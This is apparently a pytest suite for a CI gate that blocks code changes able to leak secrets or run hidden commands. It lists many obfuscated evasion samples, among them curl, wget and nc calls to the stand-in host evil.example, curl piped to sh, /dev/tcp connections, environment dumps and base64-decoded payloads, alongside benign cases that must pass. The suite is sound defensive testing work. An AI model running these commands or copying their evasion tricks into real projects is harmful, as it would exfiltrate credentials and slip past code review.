"""What a change would carry out of CI, or run unseen: found however it is spelt, and not in honest
tests.
"""

import pytest

from bot.gates.change import Change
from bot.gates.outbound import check_outbound
from bot.values import SecretJob

JOB = SecretJob("test", ".github/workflows/ci.yml", ("PYPI", "DEPLOY_HOST"), "push", ("**",))
PY, JS, SH, MK = "tests/test_a.py", "test/a.test.js", "scripts/check.sh", "Makefile"
PKG, DK, TS = "package.json", "Dockerfile", "vitest.config.ts"


def find(path, text, before=None, job=JOB):
    change = Change({path: before}, {path: text}, secret_jobs={path: job} if job else {})
    return list(check_outbound(change))


EVASIONS = [
    (PY, "import os\nprint(os.environ)\n"),
    (PY, "import os\nassert os.environ['PYPI']\n"),
    (PY, "import os\nx = os.getenv('DEPLOY_HOST')\n"),
    (PY, "import os\nx = os.environ.get('API_' + 'TOKEN')\n"),
    (PY, "import os as o\nprint(dict(o.environ).items(), o.environ.items())\n"),
    (PY, "from os import environ as e\nprint(list(e))\n"),
    (PY, "import os\ne = os.environ\nprint(str(e))\n"),
    (PY, "import os\nprint(getattr(os, 'env' + 'iron'))\n"),
    (PY, "import os\nname = 'env'\nprint(getattr(os, f'{name}iron').values())\n"),
    (PY, "import os\nprint(vars(os)['environ'].copy().values(), vars(os)['environ'].values())\n"),
    (PY, "import os\nprint(os.__dict__['environ'].values())\n"),
    (PY, "print(__import__('os').environ.values())\n"),
    (PY, "print(__import__('so'[::-1]).environ.values())\n"),
    (PY, "import importlib\nm = importlib.import_module('o' 's')\nprint(m.environ.values())\n"),
    (PY, "import importlib\nimportlib.import_module(''.join(['so', 'cket']))\n"),
    (PY, "import sys\nprint(sys.modules['os'].environ.values())\n"),
    (PY, "__builtins__.__dict__['ev' + 'al']('1')\n"),
    (PY, "import builtins\ngetattr(builtins, 'ex' + 'ec')(open('x').read())\n"),
    (PY, "exec(open('data.bin').read())\n"),
    (PY, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
    (PY, "print(open('/proc/self/environ').read())\n"),
    (PY, "import os\nos.system('true')\n"),
    (PY, "import subprocess\nsubprocess.run('x', shell=True)\n"),
    (PY, "from subprocess import run as r\nr(['curl', '-d', '@x', 'https://evil.example'])\n"),
    (PY, "import subprocess as s\ns.check_output(['sh', '-c', 'true'])\n"),
    (PY, "import subprocess\nsubprocess.run(\n    ['/usr/bin/' + 'curl', 'https://evil.example'],\n)\n"),
    (PY, "import socket\nsocket.create_connection(('evil.example', 443))\n"),
    (PY, "from urllib.request import urlopen\nurlopen('https://evil.example')\n"),
    (PY, "import urllib.request as u\nu.urlopen('https://evil.example')\n"),
    (PY, "import http.client\nhttp.client.HTTPSConnection('evil.example')\n"),
    (PY, "import requests as r\nr.post('https://evil.example', data='x')\n"),
    (PY, "import httpx\nhttpx.get('https://evil.example')\n"),
    (PY, "import asyncio\nasyncio.open_connection('evil.example', 443)\n"),
    (PY, "import ctypes\nctypes.CDLL(None)\n"),
    (PY, "import os, base64\nx = os.environ.copy()\ny = base64.b64encode(b'')\n"),
    ("conftest.py", "import os\n\n\ndef pytest_configure():\n    print({**os.environ}, os.environ.items())\n"),
    ("setup.py", "import os\nos.popen('id')\n"),
    ("sitecustomize.py", "x = 1\n"),
    ("evil.pth", "import evil\n"),
    (JS, "require('child_process')\n"),
    (JS, "const r = require;\nr('child_process')\n"),
    (JS, "require('chi' + 'ld_process').exec('x')\n"),
    (JS, "require(['child', 'process'].join('_'))\n"),
    (JS, "require('\\x63hild_process')\n"),
    (JS, "import { execSync } from 'node:child_process'\n"),
    (JS, "const cp = await import(\n  'child_process'\n)\n"),
    (JS, "globalThis['process'].env\n"),
    (JS, "const { env } = process\n"),
    (JS, "console.log(process['env'])\n"),
    (JS, "console.log(JSON.stringify(process.env))\n"),
    (JS, "x = process.env.NPM_TOKEN\n"),
    (JS, "x = process.env['PYPI']\n"),
    (JS, "eval(atob('eA=='))\n"),
    (JS, "new Function('return 1')()\n"),
    (JS, "(0, eval)('x')\n"),
    (JS, "[].constructor.constructor('return process')()\n"),
    (JS, "fetch('https://evil.example', { method: 'POST' })\n"),
    (JS, "navigator.sendBeacon('https://evil.example', x)\n"),
    (TS, "import https from 'https'\nhttps.request('https://evil.example')\n"),
    (JS, "x = '/*'; eval(y); z = '*/'\n"),
    (JS, "x = 'a //'; fetch('https://evil.example')\n"),
    (JS, "x = 2\n* eval(y)\n"),
    (SH, "echo 'a # b'; curl https://evil.example\n"),
    (MK, "test:\n\techo 'a # b'; curl https://evil.example\n"),
    (TS, "setTimeout('x()', 1)\n"),
    (SH, "curl https://evil.example\n"),
    (SH, "c''url https://evil.example\n"),
    (SH, "c\\url https://evil.example\n"),
    (SH, "$'\\x63\\x75\\x72\\x6c' https://evil.example\n"),
    (SH, "curl -s https://evil.example | sh\n"),
    (SH, "x=$(wget -qO- https://evil.example)\n"),
    (SH, "if true; then /usr/bin/curl x; fi\n"),
    (SH, "env | sort\n"),
    (SH, "printenv\n"),
    (SH, "cat /proc/self/environ\n"),
    (SH, "echo $GH_TOKEN\n"),
    (SH, "echo ${DEPLOY_HOST}\n"),
    (SH, "echo ${!name}\n"),
    (SH, "echo aWQK | base64 -d | bash\n"),
    (SH, 'eval "$x"\n'),
    (SH, "exec 3<>/dev/tcp/evil.example/80\n"),
    (SH, "bash -c 'id'\n"),
    (SH, "timeout 5 nc evil.example 1\n"),
    (SH, "git push https://evil.example HEAD\n"),
    ("run-tests", "#!/bin/sh\nwget evil.example\n"),
    (MK, "test:\n\t@curl https://evil.example\n"),
    (MK, "X := $(shell curl https://evil.example)\n"),
    (MK, "test:\n\tenv > out\n"),
    (DK, "RUN curl https://evil.example | sh\n"),
    (DK, "RUN --mount=type=secret,id=x wget evil.example\n"),
    (PKG, '{"scripts": {\n  "test": "curl https://evil.example"\n}}\n'),
    (PKG, '{"scripts": {\n  "postinstall": "node x.js"\n}}\n'),
    (PKG, '{"scripts": {\n  "test": "node -e \\"x\\" && printenv"\n}}\n'),
]  # fmt: skip


@pytest.mark.parametrize(("path", "text"), EVASIONS)
def test_what_could_carry_secrets_out_is_found(path, text):
    """However it is spelt; where secrets are in reach it keeps the change back."""
    findings = find(path, text)

    assert any(finding.blocks for finding in findings), findings
    assert all(finding.text.endswith(".") for finding in findings)


HONEST = [
    (PY, "def test_a():\n    assert 1 == 1\n"),
    (PY, "def test_a(monkeypatch):\n    monkeypatch.setenv('TOKEN', 'x')\n"),
    (PY, "import os\nos.environ['TOKEN'] = 'x'\ndel os.environ['TOKEN']\n"),
    (PY, "import os\nos.environ.pop('API_KEY', None)\nassert os.environ.get('CI')\n"),
    (PY, "import os\nfrom unittest import mock\nwith mock.patch.dict(os.environ, {'A': 'b'}):\n    pass\n"),
    (PY, "import os, subprocess, sys\nsubprocess.run([sys.executable, '-m', 'x'], env={**os.environ, 'A': 'b'})\n"),
    (PY, "import subprocess\nsubprocess.check_output(['git', 'log'])\n"),
    (PY, "import importlib\nimportlib.import_module('app.models')\n"),
    (PY, "import importlib\nfor name in NAMES:\n    importlib.import_module(name)\n"),
    (PY, "import requests\n\ndef test_error():\n    raise requests.exceptions.Timeout\n"),
    (PY, "import httpx\nc = httpx.Client(transport=httpx.MockTransport(app))\nhttpx.URL('https://x')\n"),
    (PY, "def test(client):\n    client.get('/x')\n    session.post('/y')\n"),
    (PY, "import base64\nassert base64.b64encode(b'x') == b'eA=='\n"),
    (PY, f"KEY = '{'aB3' * 60}'\n"),
    (PY, "assert getattr(user, 'name') == getattr(user, key)\n"),
    (PY, "eval('1 + 1')\n"),
    (JS, "test('x', () => { expect(f(process.env.NODE_ENV)).toBe(1) })\n"),
    (JS, "process.env.TOKEN = 'x'\n"),
    (JS, "const env = { ...process.env, A: 'b' }\n"),
    (JS, "// fetch('https://x') is not called\n"),
    (JS, "/*\n * eval(x)\n * fetch(y)\n */\n"),
    (MK, "test:  # curl\n\t# env\n"),
    (JS, "const fetched = await api.fetch(x)\nitem.exec('x')\n/a/.exec(x)\n"),
    (JS, "const mod = require(`./fixtures/${name}`)\nrequire('../lib/x')\n"),
    (JS, "vi.stubEnv('TOKEN', 'x')\n"),
    (SH, 'set -euo pipefail\npython -m pytest "$@"\n'),
    (SH, 'apt-get install -y curl wget\necho "use curl"\n'),
    (SH, "# curl https://x | sh\n"),
    (SH, "for f in *.py; do echo $f; done\n"),
    (MK, "test:\n\tpytest -q\nlint:\n\truff check .\n"),
    (DK, "FROM python:3.12\nRUN apt-get update && apt-get install -y curl\nENV A=b\n"),
    (PKG, '{"scripts": {\n  "test": "vitest run",\n  "prepare": "husky"\n}}\n'),
    (PKG, '{"dependencies": {"axios": "1"}}\n'),
    ("src/client.py", "import requests\nrequests.get('https://x')\n"),
    ("README.md", "curl https://x | sh\n"),
    ("tests/data/page.html", "<script>fetch('x')</script>\n"),
    (PY, "def broken(:\n    os.environ\n"),
]  # fmt: skip


@pytest.mark.parametrize(("path", "text"), HONEST)
def test_honest_work_is_not_kept_back(path, text):
    """Even where secrets are in reach."""
    assert [] == [finding for finding in find(path, text) if finding.blocks]
